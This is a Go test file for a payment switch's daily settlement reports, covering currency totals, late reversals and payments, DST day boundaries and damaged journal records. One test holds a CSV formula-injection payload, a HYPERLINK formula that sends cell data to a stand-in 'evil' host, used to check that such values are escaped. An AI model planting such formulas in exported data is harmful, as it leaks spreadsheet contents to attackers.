package server

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"errors"
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/dgraph-io/badger/v4"

	"github.com/switchyard/switchyard/keys"
	"github.com/switchyard/switchyard/switch/api"
	"github.com/switchyard/switchyard/switch/config"
	"github.com/switchyard/switchyard/switch/journal"
)

// settleJournal is a journal in a temporary directory and a writer of records into
// it, each received at the time given, with the next RRN.
func settleJournal(t *testing.T) (*journal.Store, func(r *journal.Record) *journal.Record) {
	t.Helper()
	dir := t.TempDir()
	db, err := badger.Open(badger.DefaultOptions(filepath.Join(dir, "db")).WithLogger(nil))
	if err != nil {
		t.Fatal(err)
	}
	j, err := journal.Open(db, journal.Options{Dir: filepath.Join(dir, "log"), NoSync: true})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = j.Close(); _ = db.Close() })
	n := 0
	return j, func(r *journal.Record) *journal.Record {
		t.Helper()
		n++
		if r.RRN == "" {
			r.RRN = fmt.Sprintf("0000000%05d", n)
		}
		r.STAN = fmt.Sprintf("%06d", n)
		r.DE7 = r.Received.UTC().Format("0102150405")
		if r.MID == "" {
			r.MID = "000000000000001"
		}
		if r.TID == "" {
			r.TID = "T0000001"
		}
		if r.Events == nil {
			r.AddEvent(journal.StateReceived, r.Received, "")
			r.AddEvent(journal.StateAnswered, r.Received, "")
		}
		if err := j.Write(t.Context(), r, true, true); err != nil {
			t.Fatal(err)
		}
		return r
	}
}

// TestSettlementTotalsPerCurrency: a day with purchases in yuan and in dollars has a
// total per currency; no line, merchant total or total adds fen to cents. (Until 5
// December 2026 the report's one total added every currency together: 10,000 fen and
// 2,500 cents made a "net" of 12,500 in no currency, which the settlement file's
// total row and the task's summary gave.)
func TestSettlementTotalsPerCurrency(t *testing.T) {
	loc, _ := time.LoadLocation("Asia/Shanghai")
	noon := time.Date(2026, 12, 3, 12, 0, 0, 0, loc)
	j, write := settleJournal(t)
	write(&journal.Record{Received: noon, MTI: "0200", Type: "purchase", RC: "00", Amount: 10000, Currency: "156"})
	write(&journal.Record{Received: noon.Add(time.Minute), MTI: "0200", Type: "purchase", RC: "00", Amount: 2500, Currency: "840"})
	write(&journal.Record{Received: noon.Add(2 * time.Minute), MTI: "0200", Type: "refund", RC: "00", Amount: 500, Currency: "840"})

	rep, err := Settle(t.Context(), j, "2026-12-03", loc)
	if err != nil {
		t.Fatal(err)
	}
	want := map[string]SettlementLine{
		"156": {Currency: "156", PurchaseCount: 1, PurchaseAmount: 10000, Net: 10000},
		"840": {Currency: "840", PurchaseCount: 1, PurchaseAmount: 2500, RefundCount: 1, RefundAmount: 500, Net: 2000},
	}
	if len(rep.Totals) != 2 {
		t.Fatalf("totals %+v: want one per currency", rep.Totals)
	}
	for _, tot := range rep.Totals {
		if tot != want[tot.Currency] {
			t.Errorf("total in %s: %+v, want %+v", tot.Currency, tot, want[tot.Currency])
		}
	}
	if rep.Total != nil {
		t.Errorf("a total across currencies: %+v", *rep.Total)
	}
	var buf bytes.Buffer
	if err := rep.WriteCSV(&buf); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(&buf).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	totals := 0
	for _, row := range rows[1:] {
		if row[1] != "total" {
			continue
		}
		totals++
		if w := want[row[4]]; row[4] == "" || row[9] != fmt.Sprint(w.Net) {
			t.Errorf("CSV total row %q: want the net of currency %q, %d", row, row[4], w.Net)
		}
	}
	if totals != 2 {
		t.Errorf("CSV %d total rows, want one per currency:\n%s", totals, buf.String())
	}

	// A day in one currency keeps its single total.
	j1, write1 := settleJournal(t)
	write1(&journal.Record{Received: noon, MTI: "0200", Type: "purchase", RC: "00", Amount: 10000, Currency: "156"})
	rep, err = Settle(t.Context(), j1, "2026-12-03", loc)
	if err != nil {
		t.Fatal(err)
	}
	if rep.Total == nil || *rep.Total != want["156"] || len(rep.Totals) != 1 {
		t.Errorf("one currency: total %v, totals %+v", rep.Total, rep.Totals)
	}
}

// reverse marks r reversed by by at at, as the pipeline does (its reversal mark and a
// reversed event), and writes it.
func reverse(t *testing.T, j *journal.Store, r *journal.Record, by string, at time.Time) {
	t.Helper()
	r.ReversedBy = by
	r.AddEvent(journal.StateReversed, at.UTC(), by)
	if err := j.Write(t.Context(), r, false, true); err != nil {
		t.Fatal(err)
	}
}

// TestSettlementStableAfterCutOff: the report of a day does not change once the day
// is over, and what happens afterwards to its transactions is in the report of the
// day it happens. A purchase of 23:59 reversed by its terminal at 00:20, a completion
// reversed by the switch's recovery at 00:30 (no reversal record) and a refund
// reversed at 00:40, all after the settlement file of the day was written at 00:15:
// the day's report as run again still counts them (the file paid them out), and the
// next day's takes them back. Over the two files every reversed transaction nets to
// nothing. (Until 5 December 2026 a report left out whatever was reversed by the time
// it ran, whenever: the file of 00:15 had paid the merchant for the purchase, and no
// file ever took it back.)
func TestSettlementStableAfterCutOff(t *testing.T) {
	loc, _ := time.LoadLocation("Asia/Shanghai")
	midnight := time.Date(2026, 12, 4, 0, 0, 0, 0, loc)
	j, write := settleJournal(t)
	// Written in the order received, as RRNs are taken.
	old := write(&journal.Record{Received: midnight.Add(-36 * time.Hour), MTI: "0200", Type: "purchase", RC: "00", Amount: 2000, Currency: "156"})
	kept := write(&journal.Record{Received: midnight.Add(-2 * time.Hour), MTI: "0200", Type: "purchase", RC: "00", Amount: 1000, Currency: "156"})
	sameDay := write(&journal.Record{Received: midnight.Add(-time.Hour), MTI: "0200", Type: "purchase", RC: "00", Amount: 900, Currency: "156"})
	reverse(t, j, sameDay, "switch:undelivered", midnight.Add(-time.Hour+time.Second))
	sale := write(&journal.Record{Received: midnight.Add(-30 * time.Second), MTI: "0200", Type: "purchase", RC: "00", Amount: 7000, Currency: "156"})
	comp := write(&journal.Record{Received: midnight.Add(-20 * time.Second), MTI: "0220", Type: "completion", RC: "00", Amount: 3000, Currency: "156"})
	refund := write(&journal.Record{Received: midnight.Add(-10 * time.Second), MTI: "0200", Type: "refund", RC: "00", Amount: 400, Currency: "156", OriginalRRN: kept.RRN})

	file, err := Settle(t.Context(), j, "2026-12-03", loc) // the cut-off at 00:15
	if err != nil {
		t.Fatal(err)
	}
	if file.Total == nil || file.Total.PurchaseCount != 3 || file.Total.PurchaseAmount != 11000 || file.Total.RefundAmount != 400 || file.Total.Net != 10600 {
		t.Fatalf("the day's file: %+v", file.Total)
	}

	rev := write(&journal.Record{Received: midnight.Add(20 * time.Minute), MTI: "0400", Type: "reversal", RC: "00", Amount: 7000, Currency: "156", OriginalRRN: sale.RRN})
	reverse(t, j, sale, rev.RRN, midnight.Add(20*time.Minute))
	reverse(t, j, comp, "switch:recovered", midnight.Add(30*time.Minute))
	rrev := write(&journal.Record{Received: midnight.Add(40 * time.Minute), MTI: "0400", Type: "reversal", RC: "00", Amount: 400, Currency: "156", OriginalRRN: refund.RRN})
	reverse(t, j, refund, rrev.RRN, midnight.Add(40*time.Minute))
	// A terminal's reversal names its original of any age (beyond the look-back).
	orev := write(&journal.Record{Received: midnight.Add(50 * time.Minute), MTI: "0400", Type: "reversal", RC: "00", Amount: 2000, Currency: "156", OriginalRRN: old.RRN})
	reverse(t, j, old, orev.RRN, midnight.Add(50*time.Minute))
	write(&journal.Record{Received: midnight.Add(time.Hour), MTI: "0200", Type: "purchase", RC: "00", Amount: 500, Currency: "156"})

	again, err := Settle(t.Context(), j, "2026-12-03", loc)
	if err != nil {
		t.Fatal(err)
	}
	if *again.Total != *file.Total || len(again.Lines) != len(file.Lines) || again.Lines[0] != file.Lines[0] {
		t.Errorf("the day's report run again: %+v, the file had %+v", again.Total, file.Total)
	}
	next, err := Settle(t.Context(), j, "2026-12-04", loc)
	if err != nil {
		t.Fatal(err)
	}
	want := SettlementLine{Currency: "156", PurchaseCount: 1, PurchaseAmount: 500,
		LateReversalCount: 3, LateReversalAmount: 12000, LateRefundReversalCount: 1, LateRefundReversalAmount: 400,
		Net: 500 - 12000 + 400}
	if next.Total == nil || *next.Total != want {
		t.Errorf("the next day: %+v, want %+v", next.Total, want)
	}
	if got := file.Total.Net + next.Total.Net; got != 1000+500-2000 {
		t.Errorf("the two files net %d, want the two purchases that stand less the earlier day's purchase reversed, %d", got, 1000+500-2000)
	}
}

// settleDays returns the reports of the days from first on, n of them.
func settleDays(t *testing.T, j *journal.Store, first time.Time, n int) []*Settlement {
	t.Helper()
	var out []*Settlement
	for i := range n {
		rep, err := Settle(t.Context(), j, first.AddDate(0, 0, i).Format("2006-01-02"), first.Location())
		if err != nil {
			t.Fatal(err)
		}
		out = append(out, rep)
	}
	return out
}

// dayTotal is a report's total of its one currency (zero for a day without lines).
func dayTotal(t *testing.T, rep *Settlement) SettlementLine {
	t.Helper()
	switch len(rep.Totals) {
	case 0:
		return SettlementLine{}
	case 1:
		return rep.Totals[0]
	}
	t.Fatalf("%s: totals %+v, want one currency", rep.Date, rep.Totals)
	return SettlementLine{}
}

// TestSettlementSwitchReversalDaysLater: the switch reverses transactions more than a
// day after they were received (a node down for days, restarted: its recovery
// reverses the transactions it left open). A purchase of day D reversed on D+3, and
// one reversed on D+1, 34 hours after it was received (what the look-back at the day
// before found already): D's report, filed before and run again after, pays both; the
// report of the day of each reversal takes it back, the days between have nothing;
// over the days only the purchase that stands is paid. (Until 6 December 2026 a
// report found the switch's reversals only among the transactions of the day before:
// the purchase reversed on D+3 was paid by D's file and taken back by none.)
func TestSettlementSwitchReversalDaysLater(t *testing.T) {
	loc, _ := time.LoadLocation("Asia/Shanghai")
	d := time.Date(2026, 12, 1, 0, 0, 0, 0, loc)
	j, write := settleJournal(t)
	early := write(&journal.Record{Received: d.Add(10 * time.Hour), MTI: "0200", Type: "purchase", RC: "00", Amount: 3000, Currency: "156"})
	sale := write(&journal.Record{Received: d.Add(12 * time.Hour), MTI: "0200", Type: "purchase", RC: "00", Amount: 5000, Currency: "156"})
	write(&journal.Record{Received: d.Add(13 * time.Hour), MTI: "0200", Type: "purchase", RC: "00", Amount: 1000, Currency: "156"})

	file := settleDays(t, j, d, 1)[0] // the cut-off of D+1 00:15
	if tot := dayTotal(t, file); tot.PurchaseCount != 3 || tot.Net != 9000 {
		t.Fatalf("D's file: %+v", tot)
	}
	reverse(t, j, early, "switch:recovered", d.AddDate(0, 0, 1).Add(20*time.Hour))
	reverse(t, j, sale, "switch:in-doubt", d.AddDate(0, 0, 3).Add(10*time.Hour))

	reps := settleDays(t, j, d, 5)
	if got := dayTotal(t, reps[0]); got != dayTotal(t, file) {
		t.Errorf("D's report run again: %+v, the file had %+v", got, dayTotal(t, file))
	}
	want := []SettlementLine{
		dayTotal(t, file),
		{Currency: "156", LateReversalCount: 1, LateReversalAmount: 3000, Net: -3000},
		{},
		{Currency: "156", LateReversalCount: 1, LateReversalAmount: 5000, Net: -5000},
		{},
	}
	sum := int64(0)
	for i, rep := range reps {
		got := dayTotal(t, rep)
		if got != want[i] {
			t.Errorf("D+%d (%s): %+v, want %+v", i, rep.Date, got, want[i])
		}
		sum += got.Net
	}
	if sum != 1000 {
		t.Errorf("the days net %d, want the one purchase that stands, 1000", sum)
	}
}

// TestSettlementLatePayment: merchant-presented payments journaled after the day the
// payer paid had closed (the sweep of owed orders; Record.Written): one paid on D at
// 23:00 and journaled at 00:30, after D's file; one paid on D and journaled on D+2,
// beyond the look-back; one journaled late and reversed at once (a payment the order
// did not take); one journaled late and reversed by the switch the next day. D's
// report, run again, is the file it was (none of them); each stands in the report of
// the day it was journaled as a late payment, the reversal the next day as a late
// reversal; over the days every payment that stands is paid once. The new columns
// come last in the CSV. (Until 6 December 2026 the payments were in D's report as run
// again, after its file was written: paid by no file.)
func TestSettlementLatePayment(t *testing.T) {
	loc, _ := time.LoadLocation("Asia/Shanghai")
	d := time.Date(2026, 12, 1, 0, 0, 0, 0, loc)
	j, write := settleJournal(t)
	// The orders' IDs (their payments' RRNs) were taken when the orders were made,
	// among the day's card purchases.
	write(&journal.Record{RRN: "000000001001", Received: d.Add(9 * time.Hour), MTI: "0200", Type: "purchase", RC: "00", Amount: 1000, Currency: "156"})
	qr := func(rrn string, paid, written time.Time, amount int64) *journal.Record {
		return &journal.Record{RRN: rrn, Received: paid, Written: written, MTI: "0200", Type: "purchase", RC: "00", Amount: amount, Currency: "156",
			Listener: "qr-notify", QR: "wechat", TID: "T0000002"}
	}
	file := settleDays(t, j, d, 1)[0] // D+1 00:15
	if tot := dayTotal(t, file); tot.PurchaseCount != 1 || tot.Net != 1000 {
		t.Fatalf("D's file: %+v", tot)
	}
	write(qr("000000001002", d.Add(23*time.Hour), d.AddDate(0, 0, 1).Add(30*time.Minute), 700))
	refused := write(qr("000000001003", d.Add(22*time.Hour), d.AddDate(0, 0, 1).Add(time.Hour), 800))
	reverse(t, j, refused, "switch:qr-order-late", refused.Written)
	later := write(qr("000000001004", d.Add(21*time.Hour), d.AddDate(0, 0, 1).Add(2*time.Hour), 600))
	reverse(t, j, later, "switch:recovered", d.AddDate(0, 0, 2).Add(3*time.Hour))
	write(qr("000000001005", d.Add(10*time.Hour), d.AddDate(0, 0, 2).Add(9*time.Hour), 400))
	write(&journal.Record{RRN: "000000002001", Received: d.AddDate(0, 0, 1).Add(8 * time.Hour), MTI: "0200", Type: "purchase", RC: "00", Amount: 2000, Currency: "156"})

	reps := settleDays(t, j, d, 4)
	if got := dayTotal(t, reps[0]); got != dayTotal(t, file) || len(reps[0].Lines) != len(file.Lines) {
		t.Errorf("D's report run again: %+v, the file had %+v", got, dayTotal(t, file))
	}
	want := []SettlementLine{
		dayTotal(t, file),
		{Currency: "156", PurchaseCount: 1, PurchaseAmount: 2000, LatePaymentCount: 2, LatePaymentAmount: 700 + 600, Net: 2000 + 700 + 600},
		{Currency: "156", LateReversalCount: 1, LateReversalAmount: 600, LatePaymentCount: 1, LatePaymentAmount: 400, Net: 400 - 600},
		{},
	}
	sum := int64(0)
	for i, rep := range reps {
		got := dayTotal(t, rep)
		if got != want[i] {
			t.Errorf("D+%d (%s): %+v, want %+v", i, rep.Date, got, want[i])
		}
		sum += got.Net
	}
	if sum != 1000+700+400+2000 {
		t.Errorf("the days net %d, want the payments that stand, %d", sum, 1000+700+400+2000)
	}

	var buf bytes.Buffer
	if err := reps[1].WriteCSV(&buf); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(&buf).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	head := rows[0]
	if got := head[len(head)-4:]; fmt.Sprint(got) != "[late_payment_count late_payment_amount late_refund_count late_refund_amount]" {
		t.Errorf("CSV header ends %q", got)
	}
	for _, row := range rows[1:] {
		if row[1] == "total" && (row[len(row)-4] != "2" || row[len(row)-3] != "1300" || row[9] != "3300") {
			t.Errorf("CSV total row %q", row)
		}
	}
}

// TestSettlementOrderPaidAfterMidnight: a QR order made at 23:50 (its ID, the
// payment's RRN, taken then) and paid at 00:05, and a card purchase of 23:55 (a later
// RRN): the purchase is in its day's report, the payment in the next day's. (Until 6
// December 2026 the payment, beyond the day's end, ended the day's walk in RRN order:
// the purchase of 23:55 was in no report.)
func TestSettlementOrderPaidAfterMidnight(t *testing.T) {
	loc, _ := time.LoadLocation("Asia/Shanghai")
	d := time.Date(2026, 12, 2, 0, 0, 0, 0, loc)
	j, write := settleJournal(t)
	write(&journal.Record{RRN: "000000000001", Received: d.Add(-20 * time.Minute), MTI: "0200", Type: "purchase", RC: "00", Amount: 1000, Currency: "156"})
	write(&journal.Record{RRN: "000000000003", Received: d.Add(-5 * time.Minute), MTI: "0200", Type: "purchase", RC: "00", Amount: 2000, Currency: "156"})
	write(&journal.Record{RRN: "000000000002", Received: d.Add(5 * time.Minute), Written: d.Add(5 * time.Minute), Listener: "qr-notify", QR: "wechat",
		MTI: "0200", Type: "purchase", RC: "00", Amount: 700, Currency: "156", TID: "T0000002"})
	reps := settleDays(t, j, d.AddDate(0, 0, -1), 2)
	if got := dayTotal(t, reps[0]); got.PurchaseCount != 2 || got.Net != 3000 {
		t.Errorf("the day of the card purchases: %+v, want both", got)
	}
	if got := dayTotal(t, reps[1]); got.PurchaseCount != 1 || got.Net != 700 {
		t.Errorf("the day of the payment: %+v, want it", got)
	}
}

// TestSettlementCSVFormulaCells: a settlement file's text cells that a spreadsheet
// would run as formulas (a merchant or terminal ID as the terminal sent it) are
// written with a quote before them, while a negative net stays a number.
func TestSettlementCSVFormulaCells(t *testing.T) {
	loc, _ := time.LoadLocation("Asia/Shanghai")
	noon := time.Date(2026, 12, 3, 12, 0, 0, 0, loc)
	j, write := settleJournal(t)
	write(&journal.Record{Received: noon, MTI: "0200", Type: "refund", RC: "00", Amount: 10000, Currency: "156",
		MID: `=HYPERLINK("http://evil/"&A1,"x")`, TID: "@SUM(A1)"})
	rep, err := Settle(t.Context(), j, "2026-12-03", loc)
	if err != nil {
		t.Fatal(err)
	}
	var buf bytes.Buffer
	if err := rep.WriteCSV(&buf); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(&buf).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	line := rows[1]
	if line[1] != "terminal" || line[2] != `'=HYPERLINK("http://evil/"&A1,"x")` || line[3] != "'@SUM(A1)" {
		t.Errorf("terminal line %q: want the MID and TID quoted", line)
	}
	if line[9] != "-10000" || line[8] != "10000" {
		t.Errorf("terminal line %q: want refund 10000 and net -10000 as numbers", line)
	}
}

// TestSettlementDaysAroundMidnightDST: in a zone whose summer time begins at
// midnight (Chile's, Lebanon's: the day starts at 01:00), every purchase is in the
// report of its local day, once. (Until the third release of 6 December 2026 a day ended at its start plus
// one calendar day, from a start normalized out of the missing midnight: in
// America/Santiago the last hour of 6 September 2026 was in no report, and the last
// hour of the 5th in the 6th's; in Asia/Beirut the first hour of 30 March 2026 was in
// the reports of both the 29th and the 30th, paid twice.)
func TestSettlementDaysAroundMidnightDST(t *testing.T) {
	for _, c := range []struct {
		zone  string
		first string // the day before the one whose midnight is missing
		at    []string
	}{
		{"America/Santiago", "2026-09-05", []string{"2026-09-05T23:30:00-04:00", "2026-09-06T01:30:00-03:00", "2026-09-06T23:30:00-03:00", "2026-09-07T00:30:00-03:00"}},
		{"Asia/Beirut", "2026-03-28", []string{"2026-03-28T23:30:00+02:00", "2026-03-29T01:30:00+03:00", "2026-03-29T23:30:00+03:00", "2026-03-30T00:30:00+03:00"}},
	} {
		t.Run(c.zone, func(t *testing.T) {
			loc, err := time.LoadLocation(c.zone)
			if err != nil {
				t.Skip(err)
			}
			j, write := settleJournal(t)
			want := map[string]int64{}
			for i, s := range c.at {
				at, err := time.Parse(time.RFC3339, s)
				if err != nil {
					t.Fatal(err)
				}
				amount := int64(1) << (i * 4) // which purchases a total holds shows in its digits
				write(&journal.Record{Received: at, MTI: "0200", Type: "purchase", RC: "00", Amount: amount, Currency: "152"})
				want[at.In(loc).Format("2006-01-02")] += amount
			}
			first, _ := time.ParseInLocation("2006-01-02", c.first, time.UTC)
			for _, rep := range settleDays(t, j, time.Date(first.Year(), first.Month(), first.Day(), 12, 0, 0, 0, loc), 3) {
				if got := dayTotal(t, rep).PurchaseAmount; got != want[rep.Date] {
					t.Errorf("%s in %s: purchases %#x, want %#x", rep.Date, c.zone, got, want[rep.Date])
				}
			}
		})
	}
}

// TestSettlementDayBeforeSlot: the cut-off just after a midnight that follows a day
// whose own midnight was missing files that day. (Until the third release of 6 December 2026 the slot of
// 00:15 on 7 September 2026 in America/Santiago, less one day, was normalized into
// 5 September: the file of the 5th was written again and the 6th's never.)
func TestSettlementDayBeforeSlot(t *testing.T) {
	for _, c := range []struct{ zone, slot, want string }{
		{"America/Santiago", "2026-09-07T00:15:00-03:00", "2026-09-06"},
		{"America/Santiago", "2026-09-06T01:15:00-03:00", "2026-09-05"},
		{"Asia/Beirut", "2026-03-30T00:15:00+03:00", "2026-03-29"},
		{"Asia/Shanghai", "2026-12-04T00:15:00+08:00", "2026-12-03"},
		{"Asia/Shanghai", "2026-03-01T00:15:00+08:00", "2026-02-28"},
	} {
		loc, err := time.LoadLocation(c.zone)
		if err != nil {
			t.Skip(err)
		}
		at, _ := time.Parse(time.RFC3339, c.slot)
		if got := DayBefore(at, loc); got != c.want {
			t.Errorf("slot %s in %s: day %s, want %s", c.slot, c.zone, got, c.want)
		}
	}
}

// TestSettlementWithoutDateIsTheSwitchsYesterday: GET /api/v1/settlement without a
// date (what `switchyard settle` without --date asks) answers the report of the day
// before in the switch's own timezone, here UTC, with a purchase of that day in it.
// Before, the API refused a request without a date (400) and the CLI chose the day
// in $SWITCHYARD_TIMEZONE (default Asia/Shanghai): against a switch in UTC, from
// 00:00 to 08:00 in Shanghai it asked for the UTC day not yet over.
func TestSettlementWithoutDateIsTheSwitchsYesterday(t *testing.T) {
	off, err := OpenOffline(t.TempDir(), "test", "UTC", keys.LMKSource{})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = off.Close() })
	now := time.Now()
	yesterday := DayBefore(now, time.UTC)
	day, _, err := DayBounds(yesterday, time.UTC)
	if err != nil {
		t.Fatal(err)
	}
	r := &journal.Record{RRN: "000000000001", Received: day.Add(20 * time.Hour), MTI: "0200", Type: "purchase", RC: "00",
		TID: "T0000001", MID: "000000000000001", STAN: "000001", Amount: 4200, Currency: "840"}
	r.DE7 = r.Received.Format("0102150405")
	r.AddEvent(journal.StateReceived, r.Received, "")
	r.AddEvent(journal.StateAnswered, r.Received, "")
	if err := off.Journal.Write(t.Context(), r, true, true); err != nil {
		t.Fatal(err)
	}
	req := httptest.NewRequest("GET", "/api/v1/settlement", nil)
	req.Header.Set("Authorization", "Bearer "+OfflineToken)
	w := httptest.NewRecorder()
	off.Handler.ServeHTTP(w, req)
	if DayBefore(time.Now(), time.UTC) != yesterday {
		t.Skip("the UTC day changed during the test")
	}
	if w.Code != http.StatusOK {
		t.Fatalf("GET /api/v1/settlement without a date: %d %s, want 200 and the switch's yesterday %s", w.Code, w.Body, yesterday)
	}
	var rep Settlement
	if err := json.Unmarshal(w.Body.Bytes(), &rep); err != nil {
		t.Fatal(err)
	}
	if rep.Date != yesterday || rep.Timezone != "UTC" || rep.Total == nil || rep.Total.PurchaseAmount != 4200 {
		t.Fatalf("report without a date: date %s in %s, total %+v; want %s in UTC with the purchase of 4200", rep.Date, rep.Timezone, rep.Total, yesterday)
	}
}

// TestSettlementDamagedRecord: a damaged frame of the log under a record of the day
// (a byte flipped under the open journal) no longer stops the report: the report
// counts every other record, is marked incomplete, and names the damaged one (RRN,
// segment file, offset before the flipped byte), also in its JSON; the cut-off
// writes it as settlement-DAY.incomplete.csv, not under the day's name, and fails
// naming the record. Until the fifteenth release the report failed with a 500 and
// the operator had no settlement of the day. A date that is no date is still a 400.
func TestSettlementDamagedRecord(t *testing.T) {
	loc, _ := time.LoadLocation("Asia/Shanghai")
	noon := time.Date(2026, 12, 3, 12, 0, 0, 0, loc)
	dir := t.TempDir()
	db, err := badger.Open(badger.DefaultOptions(filepath.Join(dir, "db")).WithLogger(nil))
	if err != nil {
		t.Fatal(err)
	}
	defer db.Close()
	j, err := journal.Open(db, journal.Options{Dir: filepath.Join(dir, "log"), NoSync: true})
	if err != nil {
		t.Fatal(err)
	}
	defer j.Close()
	for i := range 4 {
		r := &journal.Record{RRN: fmt.Sprintf("00000000000%d", i+1), Received: noon.Add(time.Duration(i) * time.Minute), MTI: "0200", Type: "purchase", RC: "00",
			Amount: 1000, Currency: "156", MID: "000000000000001", TID: fmt.Sprintf("T000000%d", i%2+1), STAN: fmt.Sprintf("%06d", i+1)}
		r.AddEvent(journal.StateReceived, r.Received, "")
		r.AddEvent(journal.StateAnswered, r.Received, "")
		if err := j.Write(t.Context(), r, true, true); err != nil {
			t.Fatal(err)
		}
	}
	if _, err := Settle(t.Context(), j, "2026-12-03", loc); err != nil { // indexed: read from the log from now on
		t.Fatal(err)
	}
	// Flip a byte of the second record's frame (its RRN, in its payload).
	seg := filepath.Join(dir, "log", "00000001.seg")
	b, err := os.ReadFile(seg)
	if err != nil {
		t.Fatal(err)
	}
	at := bytes.Index(b, []byte("000000000002"))
	if at < 0 {
		t.Fatal("the second record's RRN is not in the segment")
	}
	f, err := os.OpenFile(seg, os.O_RDWR, 0)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := f.WriteAt([]byte{b[at+11] ^ 0x01}, int64(at+11)); err != nil {
		t.Fatal(err)
	}
	f.Close()

	rep, err := Settle(t.Context(), j, "2026-12-03", loc)
	if err != nil {
		t.Fatalf("settlement over a damaged record: %v, want the report of the others", err)
	}
	if !rep.Incomplete || len(rep.Unreadable) != 1 {
		t.Fatalf("settlement over a damaged record: incomplete %v, unreadable %+v; want it named", rep.Incomplete, rep.Unreadable)
	}
	if u := rep.Unreadable[0]; u.RRN != "000000000002" || u.File != seg || u.Offset < 0 || u.Offset >= int64(at) || u.Reason == "" {
		t.Errorf("unreadable %+v, want record 000000000002 in %s before offset %d", u, seg, at)
	}
	if rep.Total == nil || rep.Total.PurchaseCount != 3 || rep.Total.PurchaseAmount != 3000 {
		t.Errorf("total %+v, want the three intact purchases", rep.Total)
	}
	js, _ := json.Marshal(rep)
	if !bytes.Contains(js, []byte(`"incomplete":true`)) || !bytes.Contains(js, []byte(`"unreadable":[{"rrn":"000000000002"`)) {
		t.Errorf("JSON answer does not say it is incomplete: %s", js)
	}

	s := &Server{cfg: &config.Config{Timezone: loc.String(), DataDir: dir, Clock: func() time.Time { return noon.AddDate(0, 0, 1) }}, Journal: j}
	_, err = s.settlementFile(t.Context(), noon.AddDate(0, 0, 1), map[string]string{"date": "2026-12-03"})
	if err == nil || !strings.Contains(err.Error(), "000000000002") || !strings.Contains(err.Error(), "incomplete") {
		t.Errorf("cut-off over a damaged record: %v, want it to fail naming the record", err)
	}
	if _, err := os.Stat(filepath.Join(dir, "settlement", "settlement-2026-12-03.csv")); !errors.Is(err, os.ErrNotExist) {
		t.Errorf("an incomplete report filed under the day's name: %v", err)
	}
	if _, err := os.Stat(filepath.Join(dir, "settlement", "settlement-2026-12-03.incomplete.csv")); err != nil {
		t.Errorf("the incomplete report: %v", err)
	}

	var he *api.Error
	if _, err = Settle(t.Context(), j, "2026-13-03", loc); !errors.As(err, &he) || he.Status != http.StatusBadRequest {
		t.Fatalf("settlement of 2026-13-03: %v, want a 400", err)
	}
}
